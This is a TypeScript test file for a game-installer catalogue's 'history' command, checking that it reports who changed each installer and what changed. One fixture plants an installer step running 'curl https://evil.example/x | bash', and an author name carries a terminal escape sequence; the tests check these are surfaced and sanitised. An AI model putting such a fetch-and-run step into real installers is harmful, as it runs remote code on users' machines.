import { cpSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { gameText, git, installerText, makeRepository, SITE } from '../../building/random-history.ts';
import { runCommand } from '../../run-command.ts';
import { temporaryFolder } from '../../temporary-folder.ts';

interface Listed {
  readonly game: string;
  readonly revisions: readonly { readonly revision: number; readonly sha256: string; readonly installer: string }[];
  readonly leftOut: readonly string[];
}

const FILE = 'games/q/quake/quake-linux.yaml';

const ATTACK = installerText(1, { version: 'Better' }).replace(
  '    - extract:',
  '    - execute:\n        command: curl https://evil.example/x | bash\n    - extract:',
);

/** A repository in which an installer was changed, broken, repaired, and renamed. */
function repository(site = SITE): string {
  const folder = temporaryFolder();
  makeRepository(folder, [
    {
      files: { ...site, 'games/q/quake/game.yaml': gameText(1, 'Quake'), [FILE]: installerText(1) },
      author: 'Careful',
    },
    { files: { [FILE]: 'version: [\n' }, author: 'Careless' },
    { files: { [FILE]: ATTACK }, author: 'Mallory \u001b[31m' },
    { files: { 'games/q/quake/quake-other.yaml': installerText(2) }, author: 'Careful' },
    {
      files: { [FILE]: undefined, 'games/q/quake/quake-native.yaml': installerText(1, { version: 'Better' }) },
      author: 'Careful',
    },
  ]);
  return folder;
}

const history = (folder: string, ...words: readonly string[]) =>
  runCommand(['history', '--catalogue', 'catalogue', ...words], { workingFolder: folder });

test('says who made which change, and what it made different', async () => {
  const folder = repository();
  const { code, out, error } = await history(folder, 'quake-native');
  expect({ code, error }).toEqual({ code: 0, error: '' });
  const [newest = '', attack = '', first = ''] = out.split('\n\n');
  expect(newest).toContain('quake-native: Better');
  expect(newest).toContain('No longer: ');
  expect(newest).toContain('evil.example');
  expect(attack).toContain('Mallory');
  expect(attack).toContain('evil.example');
  expect(first).toContain('The first state of this installer.');
  expect(first).toContain('2020-09-13T12:26:40Z, Careful, commit ');
  expect(out).not.toContain('\u001b');
  expect(out).not.toContain('quake-other');
  const broken = git(folder, 'rev-parse', 'HEAD~3').slice(0, 12);
  expect(out).toContain(`Left out, since a record had an error: 1 change (${broken}).`);
  expect(out).toContain('lutris:quake?revision=<number>');
});

test('gives a program the states of all installers of a game, under the numbers that a build serves', async () => {
  const folder = repository();
  const { code, out } = await history(folder, 'quake', '--format', 'json');
  expect(code).toBe(0);
  const { game, revisions, leftOut } = JSON.parse(out) as Listed;
  expect([game, leftOut]).toEqual(['quake', [git(folder, 'rev-parse', 'HEAD~3').trim()]]);
  expect(revisions.map(({ revision, installer }) => [revision, installer])).toEqual([
    [4, 'quake-native'],
    [3, 'quake-other'],
    [2, 'quake-linux'],
    [1, 'quake-linux'],
  ]);
  expect((await runCommand(['build', '--catalogue', 'catalogue'], { workingFolder: folder })).code).toBe(0);
  const paths = ['quake-native', 'quake-other'].map((slug) => join(folder, 'dist/api/history', slug));
  const served = paths.flatMap((path) => (JSON.parse(readFileSync(path, 'utf8')) as Listed).revisions);
  const numbered = (all: readonly { readonly revision: number; readonly sha256: string }[]) =>
    new Map(all.map(({ revision, sha256 }) => [revision, sha256]));
  expect(numbered(revisions)).toEqual(numbered(served.toReversed()));
});

test('says that none is served where the site does not set it', async () => {
  const folder = repository({ 'site.yaml': SITE['site.yaml'].replace('revisions: 1000\n', '') });
  expect((await history(folder, 'quake')).out).toContain('None of them is served');
});

test('says which states are withdrawn', async () => {
  const folder = repository({ 'site.yaml': `${SITE['site.yaml']}withdrawn_revisions: [quake@2]\n` });
  const { out } = await history(folder, 'quake');
  expect(out.match(/^.*\(withdrawn\)$/gm)).toEqual(['2  quake-linux: Better (withdrawn)']);
  const { revisions } = JSON.parse((await history(folder, 'quake', '--format', 'json')).out) as {
    readonly revisions: readonly { readonly revision: number; readonly withdrawn: boolean }[];
  };
  expect(revisions.filter(({ withdrawn }) => withdrawn).map(({ revision }) => revision)).toEqual([2]);
});

test('says what is missing', async () => {
  const folder = repository();
  expect(await history(folder, 'quake-nativ')).toMatchObject({
    code: 2,
    error: expect.stringContaining('quake-native') as string,
  });
  git(folder, 'clone', '--quiet', '--depth', '1', `file://${folder}`, 'shallow');
  expect(await history(join(folder, 'shallow'), 'quake')).toMatchObject({
    code: 2,
    error: expect.stringContaining('git fetch --unshallow') as string,
  });
  const plain = temporaryFolder();
  cpSync(join(folder, 'catalogue'), join(plain, 'catalogue'), { recursive: true });
  expect(await history(plain, 'quake')).toMatchObject({
    code: 2,
    error: expect.stringContaining('no git repository') as string,
  });
});
